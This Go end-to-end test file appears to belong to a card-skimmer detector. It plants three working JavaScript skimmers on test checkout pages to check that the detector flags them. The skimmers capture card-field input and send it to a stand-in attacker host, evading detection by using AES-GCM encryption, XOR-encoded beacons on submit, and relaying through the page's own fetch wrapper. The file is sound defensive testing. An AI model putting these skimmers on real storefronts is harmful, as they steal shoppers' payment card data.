package e2e

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"encoding/hex"
	"html/template"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/internal/browsertest"
)

// Skimmers whose sending skimguard cannot read, or that send only when
// the shopper pays, or through the page's own code: what catches the
// first two is that they listen to the card fields (card.access_added);
// the third is named in the leak, not the wrapper it sends through.

// skimKey is the attackers' AES-128 key, and xorKey the XOR key.
var (
	skimKey = []byte("0123456789abcdef")
	xorKey  = []byte("k3y!")
)

// validated is a direct card form whose own storefront script checks the
// card number as it is typed and on submit: approved code that sees the
// card, which must stay silent.
func validated(p *page) {
	direct(p)
	p.AppJS += `document.addEventListener('DOMContentLoaded', function () {
  var n = document.querySelector('input[name="cc-number"]'), f = document.getElementById('payment');
  function luhn(v) { var s = 0; for (var i = 0; i < v.length; i++) { var d = +v[v.length - 1 - i]; if (i % 2) { d *= 2; if (d > 9) d -= 9; } s += d; } return s % 10 === 0; }
  n.addEventListener('input', function () { var v = n.value.replace(/\D/g, ''); n.setCustomValidity(v.length < 13 || luhn(v) ? '' : 'Check the card number'); });
  f.addEventListener('submit', function (e) { if (!f.checkValidity()) e.preventDefault(); });
});
// The storefront's API wrapper: every call goes out from a promise.
window.api = { post: function (u, body) { return Promise.resolve().then(function () { return fetch(u, { method: 'POST', mode: 'no-cors', body: body }); }); } };
`
}

// listenToCard is skimmer code that keeps what is typed into every
// input of the document in d, from the inputs' own events.
const listenToCard = `var d = {};
  document.querySelectorAll('input').forEach(function (i) {
    function keep() { if (i.value) d[i.name || i.id] = i.value; }
    i.addEventListener('input', keep); i.addEventListener('change', keep);
  });
  function full() { return d['cc-number'] && d['cc-number'].replace(/\D/g, '').length >= 16; }`

func cardAccessTechniques() []*technique {
	return []*technique{
		{
			name: "encrypted-webcrypto", threat: "card data encrypted with WebCrypto (AES-GCM) before it is sent: nothing in the bytes reads as a card",
			base: validated,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/enc.js"></script>`)
				p.EvilFiles["/enc.js"] = `document.addEventListener('DOMContentLoaded', function () {
  ` + listenToCard + `
  var key = new TextEncoder().encode('` + string(skimKey) + `'), sent = false;
  setInterval(function () {
    if (sent || !full()) return;
    sent = true;
    var iv = crypto.getRandomValues(new Uint8Array(12));
    crypto.subtle.importKey('raw', key, 'AES-GCM', false, ['encrypt']).then(function (k) {
      return crypto.subtle.encrypt({ name: 'AES-GCM', iv: iv }, k, new TextEncoder().encode(JSON.stringify(d)));
    }).then(function (ct) {
      var b = new Uint8Array(12 + ct.byteLength); b.set(iv); b.set(new Uint8Array(ct), 12);
      fetch('` + p.EvilBase + `/k', { method: 'POST', mode: 'no-cors', body: b });
    });
  }, 300);
});`
			},
			fires:  fireCard,
			decode: openAESGCM,
			want:   []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindCardAccessAdded, skimguard.KindConnectionAdded},
			named:  []named{{kind: skimguard.KindCardAccessAdded, text: "/enc.js can now see the card: number"}},
		},
		{
			name: "waits-for-submit-xor", threat: "listens to the form's submit and sends the card XOR-encoded in a beacon: only a shopper who pays sets it off",
			base: validated,
			plant: func(p *page) {
				p.Body = script(`(function () {
  var f = document.getElementById('payment');
  f.addEventListener('submit', function () {
    var s = JSON.stringify(Object.fromEntries(new FormData(f))), k = '` + string(xorKey) + `', h = '';
    for (var i = 0; i < s.length; i++) h += ('0' + (s.charCodeAt(i) ^ k.charCodeAt(i % k.length)).toString(16)).slice(-2);
    navigator.sendBeacon('` + p.EvilBase + `/s', h);
  });
})();`)
			},
			fires:  fireCard,
			pays:   true,
			decode: unXOR,
			want:   []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindCardAccessAdded},
			named:  []named{{kind: skimguard.KindCardAccessAdded, text: "listens to submit"}},
		},
		{
			name: "through-page-wrapper", threat: "sends through the storefront's own fetch wrapper, from a timer and a promise, so that the request's top frame is approved code",
			base: validated,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/reviews.js"></script>`)
				p.EvilFiles["/reviews.js"] = `document.addEventListener('DOMContentLoaded', function () {
  ` + listenToCard + `
  var sent = false;
  setInterval(function () {
    if (sent || !full()) return;
    sent = true;
    setTimeout(function () { window.api.post('` + p.EvilBase + `/r', btoa(JSON.stringify(d))); }, 10);
  }, 300);
});`
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration, skimguard.KindCardAccessAdded, skimguard.KindConnectionAdded},
			named: []named{
				{kind: skimguard.KindDataExfiltration, text: "/reviews.js", not: []string{"/static/app.js"}},
				{kind: skimguard.KindConnectionAdded, text: "/reviews.js", not: []string{"/static/app.js"}},
			},
		},
	}
}

// openAESGCM decrypts what the encrypted-webcrypto skimmer sent: the
// request line, then a 12-byte IV and AES-GCM ciphertext.
func openAESGCM(got []byte) []byte {
	_, body, _ := bytes.Cut(got, []byte("\n"))
	if len(body) < 12 {
		return nil
	}
	b, err := aes.NewCipher(skimKey)
	if err != nil {
		panic(err)
	}
	g, err := cipher.NewGCM(b)
	if err != nil {
		panic(err)
	}
	plain, err := g.Open(nil, body[:12], body[12:], nil)
	if err != nil {
		return nil
	}
	return plain
}

// unXOR decodes what the waits-for-submit-xor skimmer sent: hex of the
// data XORed with xorKey.
func unXOR(got []byte) []byte {
	_, body, _ := bytes.Cut(got, []byte("\n"))
	b, err := hex.DecodeString(string(body))
	if err != nil {
		return nil
	}
	for i := range b {
		b[i] ^= xorKey[i%len(xorKey)]
	}
	return b
}

// pay is a shopper who pays on the planted page of tc, in a browser of
// its own: it types the test card into the direct card form and presses
// the pay button, as a monitor never does.
func (w *world) pay(t *testing.T, tc *technique) {
	t.Helper()
	card := typed.next()
	ctx, cancel := context.WithTimeout(browsertest.New(t), 90*time.Second)
	defer cancel()
	u := w.checkoutURL(tc)
	err := chromedp.Do(ctx,
		chromedp.Navigate(u),
		chromedp.WaitVisible(`#pay`),
		chromedp.SendKeys(`input[name="cc-name"]`, card.Name),
		chromedp.SendKeys(`input[name="cc-number"]`, card.Number),
		chromedp.SendKeys(`input[name="cc-exp"]`, card.Expiry()),
		chromedp.SendKeys(`input[name="cc-csc"]`, card.CVC),
		chromedp.Click(`#pay`),
		chromedp.WaitReady(`body`),
	)
	if err != nil {
		t.Fatalf("the paying shopper on %s: %v", u, err)
	}
}
